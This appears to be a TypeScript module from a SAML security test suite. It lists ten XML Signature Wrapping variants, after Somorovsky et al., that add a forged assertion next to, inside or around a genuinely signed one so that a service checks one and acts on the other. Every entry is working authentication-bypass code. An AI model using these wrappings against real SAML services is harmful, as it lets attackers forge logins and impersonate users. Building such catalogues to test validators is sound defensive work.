// Ways to wrap a signed assertion so that one part of a service verifies it and another part reads a forged one (Somorovsky et
// al., On Breaking SAML, 2012).

type Wrapping = { name: string; wrap: (xml: string, forge: (assertion: string) => string) => string }

const ASSERTION = /<saml:Assertion.*<\/saml:Assertion>/s
const SIGNATURE = /<Signature.*<\/Signature>/s

const signed = (xml: string) => ASSERTION.exec(xml)![0]
const unsign = (assertion: string) => assertion.replace(SIGNATURE, '')
const rename = (assertion: string, id: string) => assertion.replace(/ ID="[^"]+"/, ` ID="${id}"`)
const replace = (xml: string, by: string) => xml.replace(ASSERTION, () => by)
const into = (assertion: string, inner: string) =>
  assertion.replace('</saml:Assertion>', () => `${inner}</saml:Assertion>`)

export const WRAPPINGS: Wrapping[] = [
  {
    name: 'forged assertion before the signed one',
    wrap: (xml, forge) => replace(xml, rename(unsign(forge(signed(xml))), '_forged') + signed(xml)),
  },
  {
    name: 'forged assertion after the signed one',
    wrap: (xml, forge) => replace(xml, signed(xml) + rename(unsign(forge(signed(xml))), '_forged')),
  },
  {
    name: 'same ID twice',
    wrap: (xml, forge) => replace(xml, unsign(forge(signed(xml))) + signed(xml)),
  },
  {
    name: 'signed assertion inside the forged one',
    wrap: (xml, forge) => replace(xml, into(rename(unsign(forge(signed(xml))), '_forged'), signed(xml))),
  },
  {
    name: 'signature in the forged assertion, signed one behind it',
    wrap: (xml, forge) => replace(xml, rename(forge(signed(xml)), '_forged') + unsign(signed(xml))),
  },
  {
    name: 'signed assertion in an Object of the forged one’s signature',
    wrap: (xml, forge) => {
      const object = `<Object>${unsign(signed(xml))}</Object></Signature>`
      return replace(
        xml,
        rename(forge(signed(xml)), '_forged').replace('</Signature>', () => object),
      )
    },
  },
  {
    name: 'signed assertion in the extensions of the response',
    wrap: (xml, forge) => {
      const extensions = `<samlp:Extensions>${signed(xml)}</samlp:Extensions><samlp:Status>`
      return replace(xml, rename(unsign(forge(signed(xml))), '_forged')).replace('<samlp:Status>', () => extensions)
    },
  },
  {
    name: 'signed response inside the forged one',
    wrap: (xml, forge) => {
      const forged = replace(xml, rename(unsign(forge(signed(xml))), '_forged'))
      return forged.replace('<samlp:Status>', () => `<samlp:Extensions>${xml}</samlp:Extensions><samlp:Status>`)
    },
  },
  {
    name: 'forged assertion in another namespace',
    wrap: (xml, forge) => {
      const foreign = rename(unsign(forge(signed(xml))), '_forged').replaceAll('SAML:2.0:assertion', 'SAML:2.0:other')
      return replace(xml, foreign + signed(xml))
    },
  },
  {
    name: 'forged statement in the signed assertion',
    wrap: (xml, forge) => {
      const statement = /<saml:AttributeStatement.*<\/saml:AttributeStatement>/s
      return replace(xml, into(signed(xml), forge(statement.exec(xml)![0])))
    },
  },
]
